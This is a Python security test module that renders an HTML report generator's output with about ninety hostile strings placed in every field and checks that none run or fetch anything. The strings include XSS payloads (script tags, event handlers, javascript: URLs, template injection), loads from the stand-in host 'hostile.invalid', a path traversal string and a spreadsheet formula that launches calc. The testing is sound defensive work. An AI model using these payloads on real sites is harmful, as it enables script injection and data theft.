"""Texts that try to run in the page that shows them, and what is checked after they stood in every place of it.

`python -m tests.report.hostile` prints how many were tried and how many did anything.
"""

from __future__ import annotations

import html
import re
import sys
import tempfile
from collections.abc import Sequence
from dataclasses import dataclass, field
from pathlib import Path

from sapwood.report import write_report
from tests.report.browser import Page, browser
from tests.report.synthetic import Shape, make_run

RUN = "window.canary=1"
#: Runs in a page.
AT_ONCE = 15
#: Each tries to set window.canary, to open a dialog, to load something, or to break out of where text is put.
HOSTILE: tuple[str, ...] = (
    # script elements and what ends the one that holds data
    f"<script>{RUN}</script>",
    f"</script><script>{RUN}</script>",
    f'</script><img src=x onerror="{RUN}">',
    f"--></script><script>{RUN}</script><!--",
    f"<!--<script>{RUN}</script>",
    "<!--<script",
    f"<ScRiPt >{RUN}</sCrIpT>",
    f"<script\x0d\x0a>{RUN}</script\x09>",
    f"<scr<script>ipt>{RUN}</scr</script>ipt>",
    '<script src="http://hostile.invalid/x.js"></script>',
    "<script src=data:text/javascript,window.canary=1></script>",
    f"<script type=module>{RUN}</script>",
    f"<svg><script>{RUN}</script></svg>",
    "<svg><script>window.canary&#61;1</script></svg>",
    f"<math><mtext></p><script>{RUN}</script>",
    # handlers
    f'<img src=x onerror="{RUN}">',
    f"<img src=x onerror={RUN}//",
    f'<img/src="x"/onerror="{RUN}">',
    f"<IMG SRC=`x` ONERROR={RUN}>",
    f'"><img src=x onerror={RUN}>',
    f"'><img src=x onerror={RUN}>",
    f'" onmouseover="{RUN}" x="',
    f"' onfocus='{RUN}' autofocus='",
    f" onerror={RUN} ",
    f"<svg onload={RUN}>",
    f"<svg/onload={RUN}//",
    f"<body onload={RUN}>",
    f"<details open ontoggle={RUN}>",
    f"<video><source onerror={RUN}></video>",
    f"<audio src=x onerror={RUN}>",
    f"<input autofocus onfocus={RUN}>",
    f"<select autofocus onfocus={RUN}><option>x</select>",
    f"<marquee onstart={RUN}>x</marquee>",
    f"<style onload={RUN}></style>",
    f"<div style='animation:x' onanimationstart={RUN}><style>@keyframes x{{}}</style>",
    f"<svg><animate onbegin={RUN} attributeName=x dur=1s>",
    f"<svg><set attributeName=onmouseover to={RUN}>",
    f'<noscript><p title="</noscript><img src=x onerror={RUN}>">',
    f"<template><img src=x onerror={RUN}></template>",
    f"<math><style><img src=x onerror={RUN}></style></math>",
    # addresses
    f"javascript:{RUN}",
    f"JaVaScRiPt:{RUN}//",
    f"java\tscript:{RUN}",
    f"<a href='javascript:{RUN}'>click</a>",
    f"<iframe src='javascript:parent.{RUN}'></iframe>",
    f"<iframe srcdoc='<script>parent.{RUN}</script>'></iframe>",
    f"<object data='data:text/html,<script>parent.{RUN}</script>'></object>",
    "<embed src=http://hostile.invalid/x.swf>",
    f"<form action='javascript:{RUN}'><button autofocus>x</form>",
    "<base href=http://hostile.invalid/>",
    "<link rel=stylesheet href=http://hostile.invalid/x.css>",
    "<link rel=preload as=script href=http://hostile.invalid/x.js>",
    "<meta http-equiv=refresh content='0;url=http://hostile.invalid/'>",
    "<img src=http://hostile.invalid/pixel.png>",
    "<img srcset='http://hostile.invalid/pixel.png 1x'>",
    "<style>@import 'http://hostile.invalid/x.css';</style>",
    "<style>body{background:url(http://hostile.invalid/x)}</style>",
    "</style><style>*{display:none!important}</style>",
    "#;background:url(http://hostile.invalid/x);",
    # templates, JSON and property names
    "{{constructor.constructor('window.canary=1')()}}",
    "${window.canary=1}",
    "<%= window.canary=1 %>",
    "\\u003cscript\\u003ewindow.canary=1\\u003c/script\\u003e",
    "&lt;script&gt;window.canary=1&lt;/script&gt;",
    "&#60;img src=x onerror=window.canary=1&#62;",
    '"},"live":true,"x":{"a":"',
    "\\",
    '\\"});window.canary=1;//',
    "';window.canary=1;//",
    "*/window.canary=1;/*",
    "]]><script>window.canary=1</script>",
    "__proto__",
    "constructor",
    "toString",
    "hasOwnProperty",
    "\u2028window.canary=1\u2029",
    "\u2028</script>\u2029<script>window.canary=1</script>",
    # characters
    "\ud800<img src=x onerror=window.canary=1>",
    "\udfff\ud800",
    "\x00<script>window.canary=1</script>",
    "<\x00script>window.canary=1</script>",
    "\u202eevil\u202c \u2066isolate\u2069 \u200b\u200f",
    "\ufeff<script>window.canary=1</script>",
    "\U000e0041\U000e0042 tags",
    "+ADw-script+AD4-window.canary=1+ADw-/script+AD4-",
    "\x1b]0;title\x07\x1b[31mred",
    "a" * 300 + f"<script>{RUN}</script>",
    "%3Cscript%3Ewindow.canary=1%3C/script%3E",
    "../../../../etc/passwd",
    "=cmd|' /C calc'!A0",
)
#: Elements that the page is made of.
ALLOWED = (
    "A ARTICLE B BODY BUTTON CAPTION CODE DD DETAILS DIALOG DIV DL DT FIGCAPTION FIGURE FOOTER H1 H2 H3 H4 H5 HEAD "
    "HEADER HTML I INPUT LABEL LI LINK MAIN META NAV NOSCRIPT OL OPTION OUTPUT P PROGRESS SCRIPT SECTION SELECT SMALL "
    "SPAN STRONG STYLE SUMMARY TABLE TBODY TD TH THEAD TIME TITLE TR UL svg path line rect circle text g clipPath title"
)
#: What is wrong with the document: elements that no part of the page makes, handlers in attributes, addresses.
CHECK = """(() => {
  const wrong = [];
  const allowed = new Set("ALLOWED".split(" "));
  for (const node of document.querySelectorAll("*")) {
    if (!allowed.has(node.tagName)) wrong.push("element " + node.tagName);
    for (const { name, value } of node.attributes) {
      if (name.startsWith("on")) wrong.push("handler " + name);
      if ((name === "href" || name === "src") && !/^(#\\w+|data:,)$/.test(value)) wrong.push("address " + value);
    }
  }
  const executable = [...document.scripts].filter((node) => node.type === "");
  if (executable.length !== 1) wrong.push(executable.length + " scripts");
  for (const [name, times] of [["style", 1], ["meta", 6], ["link", 1], ["form", 0], ["base", 0], ["head > title", 1]])
    if (document.querySelectorAll(name).length !== times) wrong.push("number of " + name);
  if (window.canary !== undefined) wrong.push("the canary was set");
  if ({}.canary !== undefined || {}.live !== undefined) wrong.push("a prototype changed");
  return wrong;
})()""".replace("ALLOWED", ALLOWED)
#: Open every trajectory, point at every token of it, and give the first message of each as it stands in the page.
READ = """(async () => {
  const found = [];
  const list = document.querySelector(".list");
  const detail = document.querySelector(".detail");
  const wait = () => new Promise((resolve) => setTimeout(resolve));
  for (let i = 0; i < TOTAL; i++) {
    list.dispatchEvent(new KeyboardEvent("keydown", { key: i ? "ArrowDown" : "Home" }));
    const { key } = document.querySelector(".row[aria-selected=true]").dataset;
    while (detail.dataset.entry !== key) await wait();
    for (const node of detail.querySelectorAll("details")) node.open = true;
    found.push(detail.querySelector(".messages .passage").textContent);
    const over = () => new PointerEvent("pointerover", { bubbles: true });
    for (const node of detail.querySelectorAll(".token")) node.dispatchEvent(over());
  }
  return found;
})()"""
#: Fold everything out, draw every chart and read the last value of each.
UNFOLD = """
  for (const node of document.querySelectorAll("details")) node.open = true;
  window.dispatchEvent(new Event("beforeprint"));
  const end = () => new KeyboardEvent("keydown", { key: "End" });
  for (const plot of document.querySelectorAll(".plot")) plot.dispatchEvent(end());
"""


@dataclass
class Outcome:
    """texts: tried; places: kinds of places that each stood in; shown: read back as they are; wrong: findings."""

    texts: int = 0
    places: int = 0
    shown: int = 0
    wrong: list[str] = field(default_factory=list)

    def __str__(self) -> str:
        return (
            f"{self.texts} hostile texts in {self.places} kinds of places each: {len(self.wrong)} did anything, "
            f"{self.shown} were read back from the page character by character"
        )


#: Where `make_run` with a text puts it, and the name of the run's folder.
PLACES = (
    "name of the run folder",
    "recipe value",
    "recipe key",
    "environment value",
    "environment key",
    "command line",
    "metric name",
    "held-out metric name",
    "reward part's metric name",
    "warning name",
    "warning message",
    "warning remedy",
    "warning's metric name",
    "event message",
    "event kind",
    "event time",
    "evaluation heading",
    "evaluated model's name",
    "evaluated metric's name",
    "evaluated task's id",
    "evidence folder",
    "task id",
    "message role",
    "message text",
    "expected answer",
    "prompt",
    "reply",
    "token",
    "stop reason",
    "name of the world's info",
    "value of the world's info",
    "reward part",
    "episode error",
)


def folder_name(number: int, text: str) -> str:
    """A name of a folder with as much of the text as a file system takes."""
    safe = text.replace("/", "\u2215").replace("\x00", "").encode("utf-8", "ignore").decode()[:40]
    return f"{number:03d} {safe}".rstrip()


def make_runs(folder: Path) -> list[Path]:
    """A run for every text, which holds it in every place."""
    shape = {"steps": 3, "tasks": 1, "attempts": 1, "eval_every": 4, "eval_tasks": 1}
    made = []
    for number, text in enumerate(HOSTILE):
        algorithm = ("grpo", "sft", "ppo", "sft")[number % 4]
        every = 3 if algorithm == "sft" else 0  # the others have their held-out tasks
        run = make_run(
            folder / folder_name(number, text), Shape(algorithm=algorithm, text=text, samples_every=every, **shape)
        )
        (run / "evidence" / folder_name(0, text)).mkdir(parents=True)
        made.append(run)
    return made


def look_everywhere(page: Page, texts: Sequence[str], outcome: Outcome) -> None:
    """Open every fold, draw every chart, open every trajectory, and note what is wrong."""
    outcome.wrong += page.js(CHECK)
    page.js(UNFOLD)
    total = int(page.text(".counted").split()[0])
    read = set(page.js(READ.replace("TOTAL", str(total)), timeout=300))
    outcome.shown += sum(visible(text) in read for text in texts)
    outcome.wrong += [f"not shown as it is: {text!r}" for text in texts if visible(text) not in read]
    page.browser.wait(0.05)
    outcome.wrong += page.js(CHECK)


def visible(text: str) -> str:
    """A text as the page shows it: what hides by its code."""
    hidden = re.compile(
        "[\x00-\x08\x0b-\x1f\x7f-\x9f\xad\u061c\u180e\u200b\u200e\u200f\u2028-\u202e\u2060-\u206f\ufeff\ufff9-\ufffb"
        "\U000e0000-\U000e0fff\U000f0000-\U0010ffff\ud800-\udfff]+"
    )

    def told(match: re.Match[str]) -> str:
        parts: list[str] = []
        run = match[0]
        while run:
            same = len(run) - len(run.lstrip(run[0]))
            code = f"U+{ord(run[0]):04X}"
            parts.append(code if same == 1 else f"{code} ×{same:,}")
            run = run[same:]
        return " ".join(parts)

    return hidden.sub(told, text.replace("\r\n", "\n"))


def try_all(page: Page, folder: Path) -> Outcome:
    """Write reports about all hostile runs, some in each, and look everywhere in them."""
    page.size(560, 420)  # what isn't in sight need not be painted
    runs = make_runs(folder / "runs")
    outcome = Outcome(len(HOSTILE), len(PLACES))
    for first in range(0, len(HOSTILE), AT_ONCE):
        texts, out = HOSTILE[first : first + AT_ONCE], folder / f"{first}.html"
        write_report(runs[first : first + AT_ONCE], out)
        source = html.unescape(out.read_text("ascii"))
        outcome.wrong += [f"raw in the file: {text!r}" for text in texts if "<" in text and text in source]
        page.open(out)
        look_everywhere(page, texts, outcome)
    page.browser.wait(0.3)
    ours = ("file:", "data:,", "http://127.0.0.1:")
    outcome.wrong += [f"dialog {text!r}" for text in page.dialogs]
    outcome.wrong += [f"request {url}" for url in page.requests if not url.startswith(ours)]
    outcome.wrong += [f"refused by the policy, so it had reached the document: {text}" for text in page.refused]
    outcome.wrong += [f"exception: {text}" for text in page.errors]
    return outcome


def main() -> int:
    """Print the outcome."""
    with tempfile.TemporaryDirectory() as folder, browser() as opened:
        outcome = try_all(opened.page(), Path(folder))
    print(outcome)
    for finding in outcome.wrong[:40]:
        print(" ", finding)
    return 1 if outcome.wrong else 0


if __name__ == "__main__":
    sys.exit(main())
